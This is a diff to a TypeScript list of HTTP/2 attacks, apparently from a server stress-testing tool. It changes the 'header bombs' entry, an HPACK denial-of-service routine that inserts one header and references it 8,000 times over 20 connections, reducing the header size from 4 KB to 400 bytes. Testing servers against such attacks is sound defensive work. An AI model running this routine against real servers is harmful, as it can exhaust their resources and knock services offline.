@@ -190,14 +190,14 @@ export const HTTP2_ATTACKS: readonly Attack[] = [
   },
   {
     name: 'header bombs',
-    does: '20 connections send a header of 4 KB once and name it 8,000 times (HPACK)',
+    does: '20 connections send a header of 400 bytes once and name it 8,000 times (HPACK)',
     run: (context) =>
       withConnections(context, 20, async (connection) => {
         const long = Buffer.concat([
           Buffer.from([0x40, 1]),
           Buffer.from('x'),
-          Buffer.from([0x7f, 0xa1, 0x1e]),
-          Buffer.alloc(4_000, 97),
+          Buffer.from([0x7f, 0x91, 0x02]),
+          Buffer.alloc(400, 97),
         ])
         const named = Buffer.alloc(8_000, 0xbe)
         await connection.write(preface())
